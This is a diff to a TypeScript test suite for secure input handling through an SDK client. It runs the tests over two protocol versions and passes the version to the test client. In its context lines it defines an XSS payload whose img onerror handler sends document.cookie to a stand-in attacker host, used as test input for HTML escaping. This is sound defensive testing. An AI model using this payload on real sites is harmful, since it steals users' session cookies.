@@ -15,7 +15,7 @@ import {
 
 const XSS = `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`;
 
-describe('secure input, end to end through a real SDK client', () => {
+describe.each([['2026-07-28'], ['2025-11-25']])('secure input, end to end through a real SDK client (%s)', (protocolVersion) => {
   class CommentInput {
     @Trim() @EscapeHtml() @IsString() @MaxLength(500) body!: string;
   }
@@ -63,7 +63,7 @@ describe('secure input, end to end through a real SDK client', () => {
       logger: { level: 'error' },
       inputLimits: { maxStringLength: 64, maxDepth: 4 },
     });
-    client = await createTestClient(app);
+    client = await createTestClient(app, { protocolVersion });
     tools = app.container.resolve(Tools);
   });
 
